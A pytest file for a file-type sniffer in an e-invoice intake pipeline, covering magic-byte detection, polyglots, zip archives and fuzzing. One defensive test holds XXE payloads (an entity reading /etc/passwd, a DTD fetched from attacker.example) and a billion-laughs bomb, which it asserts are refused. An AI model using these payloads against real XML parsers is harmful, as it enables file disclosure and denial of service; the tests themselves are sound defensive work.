"""`sniff` and `is_zip`: the type of a file is its bytes — one sniffer (`domain.filetype`)
for intake and the readers alike."""

from __future__ import annotations

import io
import struct
import time
import zipfile

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from PIL import Image

from domain.enums import MediaType, ReadErrorKind
from domain.filetype import e_invoice_root, is_zip, sniff
from extractors import read
from extractors.probe import ocr_pages
from tests.intake_helpers import structured_pdf

PDF = b"%PDF-1.7\n1 0 obj <<>> endobj\ntrailer <<>>\n%%EOF\n"
PDF_XREF = structured_pdf()
UBL_INVOICE = (
    b'<?xml version="1.0" encoding="UTF-8"?>\n'
    b'<Invoice xmlns="urn:oasis:names:specification:ubl:schema:xsd:Invoice-2"\n'
    b' xmlns:cbc="urn:oasis:names:specification:ubl:schema:xsd:CommonBasicComponents-2">'
    b"<cbc:ID>R-2025-17</cbc:ID></Invoice>"
)
UBL_CREDIT_NOTE = (
    b'<CreditNote xmlns="urn:oasis:names:specification:ubl:schema:xsd:CreditNote-2">'
    b"<ID>G-1</ID></CreditNote>"
)
CII = (
    b'<?xml version="1.0" encoding="UTF-8"?>'
    b"<rsm:CrossIndustryInvoice "
    b'xmlns:rsm="urn:un:unece:uncefact:data:standard:CrossIndustryInvoice:100">'
    b"</rsm:CrossIndustryInvoice>"
)


def _image(fmt: str, **save: object) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (8, 8), "white").save(out, fmt, **save)
    return out.getvalue()


def _ftyp(major: bytes, *compatible: bytes) -> bytes:
    body = major + b"\x00\x00\x00\x00" + b"".join(compatible)
    return struct.pack(">I", 8 + len(body)) + b"ftyp" + body + b"\x00" * 32


@pytest.mark.parametrize(
    ("data", "expected"),
    [
        (PDF, MediaType.PDF),
        # A late header counts only with a PDF's structure behind it (tests/test_polyglots.py).
        (b"\r\n\xef\xbb\xbfjunk from a gateway\n" + PDF_XREF, MediaType.PDF),
        (b"x" * 1000 + PDF_XREF, MediaType.PDF),  # header starts at byte 1000: readers accept
        (b"x" * 1020 + PDF_XREF, None),  # header not complete within the first 1024 bytes
        (b"\r\n\xef\xbb\xbfjunk from a gateway\n" + PDF, None),  # no xref, no trailer
        (_image("JPEG"), MediaType.JPEG),
        (_image("PNG"), MediaType.PNG),
        (_image("TIFF"), MediaType.TIFF),
        (b"MM\x00*\x00\x00\x00\x08" + b"\x00" * 64, MediaType.TIFF),  # big-endian TIFF
        (b"II+\x00" + b"\x00" * 64, None),  # BigTIFF is not accepted
        (_ftyp(b"heic", b"mif1", b"heic"), MediaType.HEIC),
        (_ftyp(b"heix"), MediaType.HEIC),
        (_ftyp(b"mif1", b"heic"), MediaType.HEIC),
        (_ftyp(b"msf1", b"hevc"), MediaType.HEIC),
        (_ftyp(b"avif", b"mif1", b"miaf"), None),  # AVIF lists mif1 but is not HEIC
        (_ftyp(b"isom", b"mp41"), None),  # an MP4 video
        (UBL_INVOICE, MediaType.XML),
        (UBL_CREDIT_NOTE, MediaType.XML),
        (CII, MediaType.XML),
        (b"\xef\xbb\xbf" + UBL_INVOICE, MediaType.XML),
        (UBL_INVOICE.decode().replace("UTF-8", "UTF-16").encode("utf-16"), MediaType.XML),
        (b"<Invoice><ID>1</ID></Invoice>", None),  # no namespace: not UBL
        (b'<Invoice xmlns="urn:example:invoice"/>', None),
        (b'<Order xmlns="urn:oasis:names:specification:ubl:schema:xsd:Order-2"/>', None),
        (b"<html><body>%PDF- is a string in here</body></html>", None),  # a polyglot
        (b"<?xml version='1.0'?><note>hello</note>", None),
        (b"Hello, this is text.", None),
        (b"", None),
        (b"\x00" * 100, None),
        (b"GIF89a" + b"\x00" * 20, None),
        (b"MZ\x90\x00" + b"\x00" * 60, None),  # a Windows executable
    ],
)
def test_sniff_by_magic_bytes(data: bytes, expected: MediaType | None) -> None:
    assert sniff(data) == expected


def _pillow_heic() -> bytes:
    """A small HEIC image as pillow-heif (a dependency of the project) writes it."""
    import pillow_heif

    out = io.BytesIO()
    try:
        pillow_heif.from_pillow(Image.new("RGB", (16, 16), "white")).save(out, quality=50)
    except Exception as exc:  # encoder not built into this wheel
        pytest.skip(f"no HEIF encoder: {exc}")
    return out.getvalue()


def test_sniff_heic_from_pillow_heif() -> None:
    assert sniff(_pillow_heic()) == MediaType.HEIC


def test_heif_brand_rule_mif1_counts_as_major_brand_only() -> None:
    # `mif1` as the major brand is HEIF whatever the compatible brands say, so a HEIC and
    # an AVIF-flavoured file with that major brand get one answer (pillow-heif opens both
    # by the major brand); as a mere compatible brand, `mif1` makes nothing HEIC.
    heic = _ftyp(b"mif1", b"mif1", b"heic")
    mif1_avif = _ftyp(b"mif1", b"mif1", b"avif", b"miaf")
    assert sniff(heic) == sniff(mif1_avif) == MediaType.HEIC
    assert sniff(_ftyp(b"avif", b"mif1", b"miaf")) is None
    assert sniff(_ftyp(b"iso8", b"mif1", b"avif")) is None
    assert sniff(_ftyp(b"iso8", b"mif1", b"heic")) == MediaType.HEIC  # an HEVC brand counts


def _heic(major: bytes) -> bytes:
    data = _pillow_heic()
    assert data[4:8] == b"ftyp"
    return data[:8] + major + data[12:]


@pytest.mark.parametrize("major", [b"heic", b"mif1", b"heis", b"hevm", b"hevs"])
def test_readers_take_a_heif_image_for_what_intake_took_it(major: bytes) -> None:
    # The readers had a sniffer of their own that knew fewer brands: intake accepted a
    # `heis` image and the reader then called it unsupported. Now both ask `sniff`.
    data = _heic(major)
    assert sniff(data) == MediaType.HEIC
    assert ocr_pages(data) == 1  # read as an image, one frame to OCR


def test_readers_refuse_what_intake_refuses() -> None:
    # The readers' own sniffer took any `%PDF-` in the first KiB for a PDF and anything
    # starting with "<" for XML; intake refuses both, and so do the readers now.
    for data in (
        b"<html><body>%PDF- is a string in here</body></html>",
        b"<?xml version='1.0'?><note>hello</note>",
        b"\r\n\xef\xbb\xbfjunk from a gateway\n" + PDF,
    ):
        reading = read(data)
        assert reading.media_type is None
        assert reading.error is not None and reading.error.kind is ReadErrorKind.UNSUPPORTED
        assert ocr_pages(data) == 0
    # An e-invoice with a DOCTYPE: intake refuses it (XXE); the readers no longer read it.
    doctype = UBL_INVOICE.replace(b"<Invoice", b"<!DOCTYPE Invoice>\n<Invoice", 1)
    assert sniff(doctype) is None
    reading = read(doctype)
    assert reading.xml_invoice is None
    assert reading.error is not None and reading.error.kind is ReadErrorKind.CORRUPT


def _zip(**members: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return out.getvalue()


def test_zip_is_not_a_document_even_with_a_stored_pdf_inside() -> None:
    data = _zip(**{"a.pdf": PDF})
    assert PDF[:5] in data[:1024]  # the polyglot trap: "%PDF-" within the first KB
    assert is_zip(data)
    assert sniff(data) is None


@pytest.mark.parametrize(
    ("data", "expected"),
    [
        (b"PK\x03\x04rest", True),
        (b"PK\x05\x06" + b"\x00" * 18, True),  # empty archive
        (b"PK\x07\x08", True),
        (PDF, False),
        (b"PK", False),
        (b"", False),
        (b"xPK\x03\x04", False),
    ],
)
def test_is_zip(data: bytes, expected: bool) -> None:
    assert is_zip(data) is expected


@pytest.mark.parametrize(
    "doctype",
    [
        # XXE: an external entity pointing at a local file.
        b'<!DOCTYPE Invoice [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
        # XXE over the network.
        b'<!DOCTYPE Invoice SYSTEM "http://attacker.example/evil.dtd">',
        # Billion laughs.
        b'<!DOCTYPE Invoice [<!ENTITY a "aaaaaaaaaa">'
        + b"".join(
            b'<!ENTITY a%d "%s">' % (i, (b"&a%d;" % (i - 1) if i > 1 else b"&a;") * 10)
            for i in range(1, 12)
        )
        + b"]>",
    ],
)
def test_xml_with_a_doctype_is_refused_quickly(doctype: bytes) -> None:
    body = (
        b'<Invoice xmlns="urn:oasis:names:specification:ubl:schema:xsd:Invoice-2">&a11;</Invoice>'
    )
    started = time.perf_counter()
    assert sniff(b'<?xml version="1.0"?>' + doctype + body) is None
    assert time.perf_counter() - started < 0.5


def test_xml_root_must_come_early_and_size_is_bounded() -> None:
    comment = b"<!--" + b"x" * (200 * 1024) + b"-->"
    assert sniff(comment + UBL_INVOICE[UBL_INVOICE.index(b"<Invoice") :]) is None
    assert e_invoice_root(UBL_INVOICE) == (
        "{urn:oasis:names:specification:ubl:schema:xsd:Invoice-2}Invoice"
    )


def test_malformed_xml_is_not_an_invoice() -> None:
    assert sniff(b"<Invoice xmlns='urn:oasis:names:specification:ubl:schema:xsd:") is None
    assert sniff(b"<?xml version='1.0' encoding='x-no-such-codec'?><a/>") is None
    assert sniff(b"<" * 10_000) is None


_MAGICS = [
    b"%PDF-",
    b"\xff\xd8\xff",
    b"\x89PNG\r\n\x1a\n",
    b"II*\x00",
    b"MM\x00*",
    b"\x00\x00\x00\x18ftypheic",
    b"\x00\x00\x00\xffftypmif1",
    b"PK\x03\x04",
    b"<?xml version='1.0'?>",
    b'<Invoice xmlns="urn:oasis:names:specification:ubl:schema:xsd:Invoice-2"',
    b"\xff\xfe<\x00",
]


@settings(max_examples=300, deadline=None)
@given(st.binary(max_size=4096))
def test_sniff_never_raises_on_arbitrary_bytes(data: bytes) -> None:
    assert sniff(data) in (None, *MediaType)
    assert isinstance(is_zip(data), bool)


@settings(max_examples=300, deadline=None)
@given(st.sampled_from(_MAGICS), st.binary(max_size=2048))
def test_sniff_never_raises_after_a_magic_prefix(magic: bytes, tail: bytes) -> None:
    assert sniff(magic + tail) in (None, *MediaType)
